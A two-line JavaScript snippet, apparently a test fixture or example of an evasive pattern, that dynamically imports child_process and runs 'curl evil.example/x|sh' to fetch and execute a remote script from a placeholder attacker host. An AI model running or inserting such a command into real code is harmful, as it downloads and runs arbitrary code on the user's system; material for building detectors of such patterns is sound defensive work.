// tricky: import as a promise
import('child_process').then((cp) => cp.exec('curl evil.example/x|sh'));
